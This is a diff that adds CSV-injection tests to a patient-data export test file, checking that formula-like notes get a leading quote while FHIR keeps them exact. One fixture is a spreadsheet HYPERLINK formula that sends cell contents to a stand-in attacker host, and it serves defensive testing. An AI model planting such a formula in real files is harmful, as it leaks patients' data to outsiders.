@@ -1,6 +1,7 @@
 """CSV, FHIR and PDF exports: what a patient or specialist receives must be complete and exact."""
 
 import codecs
+import csv
 import importlib
 import io
 import json
@@ -11,6 +12,8 @@ from zoneinfo import ZoneInfo
 
 import pytest
 from fhir.resources.R4B.bundle import Bundle
+from hypothesis import given
+from hypothesis import strategies as st
 from matplotlib.backends.backend_agg import FigureCanvasAgg
 from matplotlib.figure import Figure
 from pydantic import ValidationError
@@ -123,6 +126,58 @@ def test_csv_of_no_entries_is_just_the_header():
     data = entries_csv([], BERLIN)
     assert parse_entries_csv(data) == []
     assert data.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"
+
+
+# Every first character OWASP's CSV Injection page lists (=, +, -, @, tab, CR, LF).
+FORMULA_NOTES = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "+1 since the new tablets",
+    "-2 since yesterday",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return first",
+    "\nline feed first",
+    "'=already quoted",
+]
+
+
+def raw_cells(data: bytes) -> list[list[str]]:
+    """The cells exactly as a spreadsheet reads them from the file (no un-neutralising)."""
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def one_note(note: str) -> Entry:
+    return make_entry("n1", datetime(2026, 11, 5, 9, tzinfo=BERLIN), 4, note=note)
+
+
+@pytest.mark.parametrize("note", FORMULA_NOTES)
+def test_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(note):
+    data = entries_csv([one_note(note)], BERLIN)
+    [_, row] = raw_cells(data)
+    assert row[COLUMNS.index("note")] == "'" + note
+    # The patient's text is unchanged for whoever reads the file back with our parser.
+    [parsed] = parse_entries_csv(data)
+    assert parsed["note"] == note
+
+
+@pytest.mark.parametrize("note", ["2 since yesterday", "a-b=c", "'quoted'", "''", "", "😀 =1"])
+def test_csv_cell_that_is_no_formula_is_written_as_typed(note):
+    [_, row] = raw_cells(entries_csv([one_note(note)], BERLIN))
+    assert row[COLUMNS.index("note")] == note
+
+
+@given(note=st.text(max_size=40))
+def test_csv_of_any_note_round_trips_and_no_cell_starts_a_formula(note):
+    data = entries_csv([one_note(note)], BERLIN)
+    assert parse_entries_csv(data)[0]["note"] == note
+    for row in raw_cells(data):
+        assert [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
+
+
+def test_fhir_keeps_a_formula_like_note_exactly():
+    note = FORMULA_NOTES[0]
+    bundle = fhir_bundle([one_note(note)], "Patient/42", "A", BERLIN, GENERATED)
+    assert bundle["entry"][0]["resource"]["note"] == [{"text": note}]
 
 
 def test_parse_rejects_a_foreign_csv():
